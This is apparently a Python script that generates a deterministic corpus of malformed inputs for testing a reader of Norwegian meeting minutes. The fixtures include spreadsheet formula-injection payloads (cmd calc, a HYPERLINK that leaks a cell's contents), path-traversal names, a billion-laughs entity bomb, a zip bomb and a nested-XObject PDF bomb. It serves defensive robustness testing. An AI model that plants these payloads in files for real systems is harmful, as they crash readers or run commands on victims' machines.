"""Generate the bad-input corpus of issue 7: files an archive may hold that no reader should trust.

Run by a developer; the small, portable part is committed under ``tests/fixtures/bad/``::

    python scripts/make_bad_inputs.py [FOLDER]          # default: tests/fixtures/bad/

The output is deterministic (fixed dates, fixed seeds, RC4 encryption without random salts), so
running it again gives the same bytes. Files that are big, or that cannot live in git or on every
file system, are made at test time by the functions below (``tests/test_bad_inputs.py`` calls them):

* :func:`make_big_text` - a text file of tens of megabytes;
* :func:`make_symlink_loops` - a folder symlink pointing to its parent and a file symlink to itself;
* :func:`make_unreadable` - a file with mode 000 and a FIFO named ``.txt`` (reading it would block);
* :func:`make_awkward_names` - names with double quotes, a newline, backslashes and ``..``, a
  leading ``-=``, and a name that is not UTF-8;
* :func:`make_long_line` - one line of 1.5 million characters;
* :func:`make_zip_bomb_docx` - a .docx that unpacks to far more than it weighs;
* :func:`make_huge_text_node_docx` - a .docx with one text node of 13 MB;
* :func:`make_hidden_text_docx` - Word text in insertions, content controls, fields, nested tables;
* :func:`make_form_bomb_pdf` - a PDF of a few KB whose page holds 10^6 nested copies of a line;
* :func:`make_ruled_attendance_pdf` - pages of ruled lines under "Til stede" that keep pdfplumber busy.

``tests/fixtures/bad/README.md`` lists every committed file with what is wrong and the outcome.
"""
from __future__ import annotations

import argparse
import codecs
import datetime as dt
import io
import os
import random
import zipfile
from collections.abc import Callable
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
DEFAULT_OUT = ROOT / "tests" / "fixtures" / "bad"
FIXED_DATE = dt.datetime(2024, 11, 19, 12, 0, tzinfo=dt.UTC)
ZIP_DATE = (2024, 11, 19, 12, 0, 0)

NORWEGIAN = (
    "Møteprotokoll\n\nRegionrådet i Hallingdal\nMøtedato: 19. november 2024\n\n"
    "Sak 12/24 Særlig viktig: økonomi og næringsutvikling\n\n"
    "Vedtak:\nRegionrådet slutter seg til forslaget. Arbeidet med å følge opp planen fortsetter.\n"
)
FORMULAS = (
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Klikk her")\n\n'
    "Saksframlegg\n\nSak 3/24 Budsjett\n\n"
    "Forslag til vedtak:\n=1+1\n\n"
    "Vedtak:\n+cmd|' /C calc'!A0\n\n"
    "Konklusjon:\n@SUM(1+1)*cmd|' /C calc'!A0\n\n"
    "Innstilling:\n-2+3+cmd|' /C calc'!A0\n"
)
TRAVERSAL = (
    "../../etc/passwd\n\nReferat fra møte i regionrådet 3. mars 2024\n\nVedtak:\nSaken tas til orientering.\n"
)


# --------------------------------------------------------------------------- PDF helpers


def _fpdf_document(pages: list[str], user_password: str | None = None) -> bytes:
    """A small text PDF made with fpdf2 (Helvetica, Latin-1), with a fixed creation date."""
    import fpdf

    pdf = fpdf.FPDF()
    pdf.set_creation_date(FIXED_DATE)
    if user_password is not None:
        pdf.set_encryption(owner_password="eier", user_password=user_password)
    pdf.set_font("Helvetica", size=12)
    for text in pages:
        pdf.add_page()
        pdf.multi_cell(0, 8, text)
    return bytes(pdf.output())


def _blank_pdf(count: int) -> bytes:
    """``count`` empty pages: no text, no images, nothing to read."""
    import fpdf

    pdf = fpdf.FPDF()
    pdf.set_creation_date(FIXED_DATE)
    for _ in range(count):
        pdf.add_page()
    return bytes(pdf.output())


def _scan_png() -> bytes:
    """A grey 'scanned page': dark bars where lines of text would be (no text layer)."""
    from PIL import Image, ImageDraw

    image = Image.new("L", (600, 800), 235)
    draw = ImageDraw.Draw(image)
    rng = random.Random(7)
    for top in range(60, 760, 28):
        draw.rectangle((50, top, 50 + rng.randint(200, 500), top + 12), fill=30)
    buffer = io.BytesIO()
    image.save(buffer, format="PNG", optimize=True)
    return buffer.getvalue()


def _scanned_pdf() -> bytes:
    """One page that is only an image: what a scanner without OCR produces."""
    import fpdf

    pdf = fpdf.FPDF()
    pdf.set_creation_date(FIXED_DATE)
    pdf.add_page()
    pdf.image(io.BytesIO(_scan_png()), x=10, y=10, w=190)
    return bytes(pdf.output())


def hand_pdf(objects: list[bytes], root: int = 1) -> bytes:
    """A PDF written by hand: ``objects[k]`` is the body of object ``k + 1``; a correct xref table."""
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, xref)
    return bytes(out)


def _text_stream(lines: list[str]) -> bytes:
    """A content stream showing each line in Helvetica (WinAnsi, so æøå are single bytes)."""
    ops = [b"BT /F1 12 Tf 72 760 Td 16 TL"]
    for line in lines:
        escaped = line.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)").encode("cp1252")
        ops.append(b"(" + escaped + b") Tj T*")
    ops.append(b"ET")
    data = b"\n".join(ops)
    return b"<< /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"


_PAGE = (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
         b"/Resources << /Font << /F1 5 0 R >> >> >>")
_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"
_LOOP_TEXT = ["Møteprotokoll", "Til stede: Kari Nordmann, Ola Ås", "Vedtak: Saken tas til orientering."]


def _pages_loop_pdf() -> bytes:
    """The page tree's root lists itself among its kids: a reader that recurses never returns."""
    return hand_pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
        _PAGE,
        _text_stream(_LOOP_TEXT),
        _FONT,
    ])


def _outlines_loop_pdf() -> bytes:
    """A sound page, but the bookmarks (outlines) chain back to themselves (/Next and /First loop)."""
    return hand_pdf([
        b"<< /Type /Catalog /Pages 2 0 R /Outlines 6 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        _PAGE,
        _text_stream(_LOOP_TEXT),
        _FONT,
        b"<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>",
        b"<< /Title (Sak 1) /Parent 6 0 R /First 7 0 R /Next 7 0 R /Prev 7 0 R /Dest [3 0 R /Fit] >>",
    ])


def _corrupt_pdf(good: bytes) -> bytes:
    """A PDF with its cross-reference table and trailer overwritten by random bytes."""
    rng = random.Random(1952)
    cut = good.rindex(b"xref")
    return good[:cut] + bytes(rng.randrange(256) for _ in range(len(good) - cut))


# --------------------------------------------------------------------------- DOCX helpers


def _zip(parts: dict[str, bytes]) -> bytes:
    """A zip with fixed timestamps (so the bytes are the same on every run)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(zipfile.ZipInfo(name, ZIP_DATE), data, compress_type=zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


_CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    b'<Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/word/document.xml" '
    b'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    b"</Types>"
)
_RELS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    b'Target="word/document.xml"/></Relationships>'
)
_W = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def _docx(document_xml: bytes) -> bytes:
    """A minimal .docx package (content types, one relationship, the main document part)."""
    parts = {"[Content_Types].xml": _CONTENT_TYPES, "_rels/.rels": _RELS, "word/document.xml": document_xml}
    return _zip(parts)


def _good_docx_xml(paragraphs: list[str]) -> bytes:
    body = b"".join(b"<w:p><w:r><w:t>" + p.encode() + b"</w:t></w:r></w:p>" for p in paragraphs)
    head = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:document ' + _W + b"><w:body>"
    return head + body + b"</w:body></w:document>"


def _entity_bomb_xml() -> bytes:
    """'Billion laughs': nested entities that would expand to gigabytes if a parser resolved them."""
    entities = [b'<!ENTITY lol0 "lol">'] + [
        b'<!ENTITY lol%d "%s">' % (k, b"".join(b"&lol%d;" % (k - 1) for _ in range(10))) for k in range(1, 10)
    ]
    return (b'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE w:document [' + b"".join(entities) + b"]>\n"
            b"<w:document " + _W + b"><w:body><w:p><w:r><w:t>Referat &lol9;</w:t></w:r></w:p>"
            b"</w:body></w:document>")


# --------------------------------------------------------------------------- the corpus

def _utf8(text: str) -> bytes:
    return text.encode("utf-8")


def corpus() -> dict[str, Callable[[], bytes]]:
    """File name -> a function making its bytes. Only names that are safe on every file system."""
    good_pdf = _fpdf_document([NORWEGIAN, "Sak 13/24 Eventuelt\n\nIngen saker."])
    rng = random.Random(2024)
    return {
        "empty.pdf": lambda: b"",
        "empty.docx": lambda: b"",
        "empty.txt": lambda: b"",
        "empty.md": lambda: b"",
        "pdf_truncated.pdf": lambda: good_pdf[: len(good_pdf) // 2],
        "pdf_corrupt_xref.pdf": lambda: _corrupt_pdf(good_pdf),
        "pdf_header_only.pdf": lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n",
        "pdf_is_html.pdf": lambda: b"<!DOCTYPE html><html><body><h1>404 Not Found</h1></body></html>\n",
        "pdf_encrypted_password.pdf": lambda: _fpdf_document([NORWEGIAN], user_password="hemmelig"),
        "pdf_encrypted_empty_password.pdf": lambda: _fpdf_document([NORWEGIAN], user_password=""),
        "pdf_300_blank_pages.pdf": lambda: _blank_pdf(300),
        "pdf_pages_loop.pdf": _pages_loop_pdf,
        "pdf_outlines_loop.pdf": _outlines_loop_pdf,
        "pdf_scanned_no_text.pdf": _scanned_pdf,
        "binary_junk.txt": lambda: bytes(rng.randrange(256) for _ in range(4096)),
        "png_named.txt": _scan_png,
        "utf16le_bom.txt": lambda: codecs.BOM_UTF16_LE + NORWEGIAN.encode("utf-16-le"),
        "utf16le_no_bom.txt": lambda: NORWEGIAN.encode("utf-16-le"),
        "utf16be_no_bom.txt": lambda: NORWEGIAN.encode("utf-16-be"),
        "windows1252.txt": lambda: (NORWEGIAN + "«Sitat» – “anførsel” koster 5 €.\n").encode("cp1252"),
        "nul_and_controls.txt": lambda: _utf8(NORWEGIAN.replace("Møtedato", "Møte\x00dato").replace(
            "Vedtak:", "\x1b[31mVedtak:\x1b[0m\x07").replace("planen", "pla\x00nen\x7f")),
        "docx_not_a_zip.docx": lambda: _utf8("Dette er ren tekst med .docx på slutten.\n"),
        "docx_broken_document_xml.docx": lambda: _docx(_good_docx_xml(["Møteprotokoll"])[:-30]),
        "docx_without_document.docx": lambda: _zip({"[Content_Types].xml": _CONTENT_TYPES}),
        "docx_entity_expansion.docx": lambda: _docx(_entity_bomb_xml()),
        "docx_good_control.docx": lambda: _docx(_good_docx_xml(NORWEGIAN.split("\n"))),
        "formula_injection.txt": lambda: _utf8(FORMULAS),
        "title_path_traversal.txt": lambda: _utf8(TRAVERSAL),
        "møte i formannskapet æøå ÆØÅ.txt": lambda: _utf8(NORWEGIAN),
        "sak 'tolv' (kopi).txt": lambda: _utf8(NORWEGIAN),
        "duplicate_a.txt": lambda: _utf8(NORWEGIAN),
        "duplicate_b.txt": lambda: _utf8(NORWEGIAN),
    }


def write_corpus(folder: Path) -> list[Path]:
    """Write the committed corpus into ``folder`` (created if needed); return the paths written."""
    folder.mkdir(parents=True, exist_ok=True)
    written = []
    for name, make in corpus().items():
        path = folder / name
        path.write_bytes(make())
        written.append(path)
    return written


# --------------------------------------------------------------------------- made at test time

def make_big_text(folder: Path, megabytes: int = 50, name: str = "big_50mb.txt") -> Path:
    """A plain UTF-8 meeting text of about ``megabytes`` MB (the protocol repeated, numbered)."""
    path = folder / name
    block = NORWEGIAN + "\n"
    repeats = megabytes * 1024 * 1024 // len(block.encode())
    with path.open("w", encoding="utf-8") as fh:
        for k in range(repeats):
            fh.write(block.replace("Sak 12/24", f"Sak {k % 1000}/24"))
    return path


def make_symlink_loops(folder: Path) -> list[Path]:
    """``loop_dir`` -> the folder itself, ``self_loop.txt`` -> itself, ``dangling.pdf`` -> nowhere."""
    links = [(folder / "loop_dir", folder), (folder / "self_loop.txt", folder / "self_loop.txt"),
             (folder / "dangling.pdf", folder / "does_not_exist.pdf")]
    for link, target in links:
        os.symlink(target, link)
    return [link for link, _ in links]


def make_unreadable(folder: Path) -> dict[str, Path]:
    """``locked.txt`` with mode 000 (readable anyway by root) and ``pipe.txt``, a FIFO."""
    locked = folder / "locked.txt"
    locked.write_text(NORWEGIAN, encoding="utf-8")
    locked.chmod(0)
    fifo = folder / "pipe.txt"
    os.mkfifo(fifo)
    return {"locked": locked, "fifo": fifo}


AWKWARD_NAMES = (
    'sak "13" vedtak.txt',
    "linje\nskift.txt",
    "sak..\\..\\..\\etc\\passwd.txt",
    "-=cmd.txt",
    "=HYPERLINK(1).txt",
)
#: A name in Windows-1252 bytes, as old zip archives unpack: not valid UTF-8.
NON_UTF8_NAME = b"m\xf8te cp1252.txt"


def make_awkward_names(folder: Path) -> list[Path]:
    """Good documents under names that are legal on Linux but not everywhere (not committed),
    and one whose name is not UTF-8 (skipped where the file system refuses it)."""
    paths = [folder / name for name in AWKWARD_NAMES]
    try:
        with open(os.path.join(os.fsencode(folder), NON_UTF8_NAME), "wb"):
            pass
        paths.append(folder / os.fsdecode(NON_UTF8_NAME))
    except OSError:
        pass
    for path in paths:
        path.write_text(NORWEGIAN, encoding="utf-8")
    return paths


def make_zip_bomb_docx(folder: Path, megabytes: int = 5, name: str = "docx_zip_bomb.docx") -> Path:
    """A .docx whose document.xml unpacks to ``megabytes`` MB of spaces (a few KB packed); a test
    lowers ``reader_base.MAX_FILE_BYTES`` below that instead of making gigabytes."""
    xml = _good_docx_xml(["Referat"]).replace(b"<w:body>", b"<w:body>" + b" " * (megabytes * 2**20))
    path = folder / name
    path.write_bytes(_docx(xml))
    return path


def make_huge_text_node_docx(folder: Path, megabytes: float = 13, name: str = "docx_huge_text_node.docx",
                             words: str = "Saken ble drøftet i møtet. ") -> Path:
    """A .docx whose one text node holds ``megabytes`` MB of ``words`` (libxml2 refuses a text node
    over 10 MB unless asked for "huge" trees): large, not damaged."""
    count = int(megabytes * 2**20) // len(words.encode()) + 1
    xml = _good_docx_xml(["Referat", "HUGE", "Slutt"]).replace(b"HUGE", words.encode() * count)
    path = folder / name
    path.write_bytes(_docx(xml))
    return path


#: Word markup that holds text outside a paragraph's plain runs, each with a word that must be read,
#: and markup whose text must not be read (deleted text, field codes).
HIDDEN_TEXT_BODY = (
    b"<w:p><w:r><w:t>Referat fra m\xc3\xb8te i regionr\xc3\xa5det</w:t></w:r></w:p>"
    b"<w:p><w:r><w:t xml:space=\"preserve\">Vedtak: </w:t></w:r>"
    b"<w:ins w:id=\"1\" w:author=\"Saksbehandler\"><w:r><w:t>INNSATT</w:t></w:r></w:ins>"
    b"<w:del w:id=\"2\" w:author=\"Saksbehandler\"><w:r><w:delText>SLETTET</w:delText></w:r></w:del></w:p>"
    b"<w:p><w:smartTag w:uri=\"urn:schemas\" w:element=\"place\"><w:r><w:t>SMARTTAG</w:t></w:r></w:smartTag></w:p>"
    b"<w:p><w:r><w:t xml:space=\"preserve\">Dato: </w:t></w:r><w:sdt><w:sdtPr><w:alias w:val=\"Dato\"/></w:sdtPr>"
    b"<w:sdtContent><w:r><w:t>KONTROLL</w:t></w:r></w:sdtContent></w:sdt></w:p>"
    b"<w:p><w:fldSimple w:instr=\" DOCPROPERTY Saksnummer \"><w:r><w:t>FELT</w:t></w:r></w:fldSimple></w:p>"
    b"<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>MERGEFIELD KODE</w:instrText></w:r>"
    b"<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>RESULTAT</w:t></w:r>"
    b"<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>"
    b"<w:customXml w:element=\"saksdel\"><w:p><w:r><w:t>BLOKK</w:t></w:r></w:p></w:customXml>"
    b"<w:tbl><w:tr><w:tc><w:p><w:r><w:t>YTRE</w:t></w:r></w:p>"
    b"<w:tbl><w:tr><w:tc><w:p><w:r><w:t>INDRE</w:t></w:r></w:p></w:tc>"
    b"<w:tc><w:p><w:ins w:id=\"3\" w:author=\"x\"><w:r><w:t>CELLE</w:t></w:r></w:ins></w:p></w:tc></w:tr></w:tbl>"
    b"<w:p/></w:tc><w:tc><w:p><w:r><w:t>NABO</w:t></w:r></w:p></w:tc></w:tr></w:tbl>"
)


def make_hidden_text_docx(folder: Path, name: str = "docx_hidden_text.docx") -> Path:
    """A .docx whose words sit in tracked insertions, smart tags, content controls, simple and
    complex fields, a block of custom XML and a table inside a table (as case-system templates
    make them), next to deleted text and field codes that are not text."""
    head = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:document ' + _W + b"><w:body>"
    path = folder / name
    path.write_bytes(_docx(head + HIDDEN_TEXT_BODY + b"</w:body></w:document>"))
    return path


def _stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def make_form_bomb_pdf(folder: Path, levels: int = 6, copies: int = 10, name: str = "pdf_form_bomb.pdf") -> Path:
    """A PDF of a few KB whose one page draws a form XObject ``copies`` times, which draws the next
    ``copies`` times, ``levels`` deep: ``copies ** levels`` copies of one short line (10^6 by
    default). PDFium expands them all when it loads the page: gigabytes of memory and minutes."""
    draw = b" ".join(b"q 1 0 0 1 0.01 0.01 cm /X Do Q" for _ in range(copies))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> /XObject << /X 6 0 R >> >> >>",
        _stream(b"BT /F1 12 Tf 72 760 Td (Til stede: Kari Nordmann) Tj ET " + draw),
        _FONT,
    ]
    for level in range(levels):
        number = len(objects) + 1  # this form's object number; it draws the next one
        inner = (b"0 0 m 100 0 l S" if level == levels - 1 else draw)
        resources = b"" if level == levels - 1 else b"/Resources << /XObject << /X %d 0 R >> >> " % (number + 1)
        objects.append(_stream(inner, b"/Type /XObject /Subtype /Form /BBox [0 0 612 792] " + resources))
    path = folder / name
    path.write_bytes(hand_pdf(objects))
    return path


def make_long_line(folder: Path, name: str = "one_long_line.txt") -> Path:
    """1.5 million characters without a line break: longer than spaCy analyses in one piece."""
    path = folder / name
    path.write_text("Møte i regionrådet " * 80_000, encoding="utf-8")
    return path


def make_ruled_attendance_pdf(folder: Path, pages: int = 30, name: str = "pdf_ruled_attendance.pdf") -> Path:
    """``pages`` pages, each with a "Til stede" list under many ruled horizontal lines and no
    columns: the fast table reader finds no table, so pdfplumber is asked, which takes a while on
    each page (a document for the per-document time limit)."""
    import fpdf

    pdf = fpdf.FPDF()
    pdf.set_creation_date(FIXED_DATE)
    pdf.set_font("Helvetica", size=9)
    for number in range(1, pages + 1):
        pdf.add_page()
        pdf.cell(0, 6, f"Til stede (side {number}):", new_x="LMARGIN", new_y="NEXT")
        for row in range(60):
            y = 20 + row * 4.4
            pdf.line(10, y, 200, y)
            pdf.text(12, y + 3.5, f"Medlem {row} Nordmann   Kommune {row}   Parti {row % 7}")
    path = folder / name
    path.write_bytes(bytes(pdf.output()))
    return path


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n", 1)[0])
    parser.add_argument("folder", nargs="?", type=Path, default=DEFAULT_OUT, help="output folder")
    args = parser.parse_args(argv)
    written = write_corpus(args.folder)
    total = sum(p.stat().st_size for p in written)
    print(f"wrote {len(written)} files, {total / 1024:.0f} KiB, to {args.folder}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
